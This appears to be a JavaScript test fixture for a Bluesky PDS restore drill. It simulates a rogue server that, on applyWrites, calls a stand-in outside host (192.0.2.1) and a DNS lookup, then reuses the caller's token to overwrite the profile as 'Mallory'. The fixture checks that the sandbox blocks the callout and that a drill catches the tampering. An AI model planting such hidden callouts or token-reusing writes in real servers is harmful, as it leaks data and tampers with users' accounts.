/**
 * A sandbox whose server does something of its own: before an empty commit it writes another profile than the one that was restored, which a
 * drill must find; and it tries to tell somebody outside, which it must not be able to.
 */
import dns from 'node:dns/promises'
import { stayOnLoopback } from '../../../../sandbox/lib/loopback.mjs'

stayOnLoopback()
process.env.LOG_ENABLED = 'false'
const { runSandbox } = await import('../../../../sandbox/lib/sandbox.mjs')

await runSandbox((pds, env) => async (req, res) => {
  if (req.url.startsWith('/xrpc/com.atproto.repo.applyWrites')) {
    await Promise.allSettled([fetch('http://192.0.2.1/told'), dns.resolveTxt('_atproto.example.com')])
    const { authorization } = req.headers
    const repo = JSON.parse(Buffer.from(authorization.split('.')[1], 'base64url')).sub
    const record = { $type: 'app.bsky.actor.profile', displayName: 'Mallory' }
    await fetch(`http://localhost:${env.port}/xrpc/com.atproto.repo.putRecord`, {
      method: 'POST',
      headers: { authorization, 'content-type': 'application/json' },
      body: JSON.stringify({ repo, collection: 'app.bsky.actor.profile', rkey: 'self', record, validate: false }),
    })
  }
  pds.app(req, res)
})
